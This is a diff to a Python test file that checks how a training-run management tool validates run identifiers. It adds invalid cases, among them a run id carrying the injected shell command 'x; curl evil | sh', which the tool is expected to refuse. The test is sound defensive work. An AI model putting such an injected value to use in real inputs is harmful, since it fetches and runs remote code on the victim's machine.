@@ -129,6 +129,12 @@ MOVED = {**PLAN, "hash": "bbb", "tasks": [PLAN["tasks"][0], {**PLAN["tasks"][1],
             "run r0 is going on (ps0 on n1, server7 on n3): watch it with ansible-playbook train.yml "
             "-e run_id=r0, or end it with ansible-playbook stop.yml",
         ),
+        (
+            {"n1": found("ps0", alive=True, run_id="x; curl evil | sh")},
+            Folder(),
+            "a host names the run 'x; curl evil | sh'; expected lower case letters, digits and dashes, at "
+            "most 63, with a letter or digit first (ps0 on n1)",
+        ),
         # Of a bare host nothing is said of its version.
         (
             {"n1": found("ps0", deployed={}, tensorflow="")},
@@ -227,7 +233,7 @@ def test_a_task_that_was_left_out_or_gave_no_answer_is_refused_with_all_else() -
     assert len(refused.value.problems) == 3
 
 
-@pytest.mark.parametrize("run_id", ["a/b", "..", "a b", "", "Night", "-x", "a" * 64, "a\n"])
+@pytest.mark.parametrize("run_id", ["a/b", "..", "a b", "a@b", "a%b", "", "Night", "-x", "a" * 64, "a\n"])
 def test_a_run_id_that_is_no_folder_name_is_refused(run_id: str) -> None:
     with pytest.raises(RefusedError, match=re.escape(repr(run_id))):
         decide(run_id, PLAN, TASKS, IDLE, Folder())
